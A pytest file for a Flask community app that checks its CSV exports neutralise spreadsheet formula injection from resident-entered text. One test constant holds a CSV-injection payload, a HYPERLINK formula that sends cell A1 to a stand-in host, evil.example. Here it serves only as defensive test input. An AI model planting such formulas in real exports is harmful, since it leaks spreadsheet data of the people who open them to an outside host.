"""No CSV the app writes can make a spreadsheet run a formula, whatever a resident typed."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

from abcd.assets.models import AssetKind
from abcd.csv_output import safe_cell, write_csv
from abcd.extensions import db
from abcd.links.models import Link, LinkType
from abcd.models_base import Visibility
from abcd.people.models import Person
from tests import factories
from tests.conftest import login
from tests.factories import CATHAYS, Cast
from tests.people.test_profile import save_profile

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_plain_text_pass_unchanged_and_the_header_is_always_there() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell("Choir") == "Choir"
    assert write_csv(["a", "b"], []) == "a,b\r\n"


def _as(app: Flask, email: str) -> FlaskClient:
    client = app.test_client()
    login(client, email)
    return client


def test_officers_export_neutralises_skill_and_name_cells(app: Flask, people: Cast) -> None:
    with app.app_context():
        skill = factories.make_skill(HOSTILE)
        group = factories.make_asset(name_en="@SUM(1)", kind=AssetKind.ASSOCIATION)
        person = factories.make_person(
            display_name="+Plus Person", visibility=Visibility.PUBLIC, ward_code=CATHAYS, skills=[skill]
        )
        db.session.add(
            Link(link_type=LinkType.MEMBER_OF, source_person_id=person.person_id,
                 target_asset_id=group.asset_id, visibility=Visibility.PUBLIC)
        )  # fmt: skip
        db.session.commit()
    rows = list(csv.DictReader(io.StringIO(_as(app, people.admin).get("/people/export.csv").get_data(as_text=True))))
    assert rows[0]["skill"] == "'" + HOSTILE
    assert rows[0]["name"] == "'+Plus Person"
    assert rows[0]["groups"] == "'@SUM(1)"


def test_my_data_zip_neutralises_every_text_cell(client: FlaskClient, app: Flask, people: Cast) -> None:
    login(client, people.resident)
    save_profile(client, display_name="-Minus Myfanwy", display_name_visibility="public", consent=True)
    with app.app_context():  # what a form would strip, an import or an older version may have stored
        db.session.execute(sa.update(Person).values(languages="\t=1+1"))
        db.session.commit()
    archive = zipfile.ZipFile(io.BytesIO(client.get("/people/me/data.zip").get_data()))
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], (name, row)
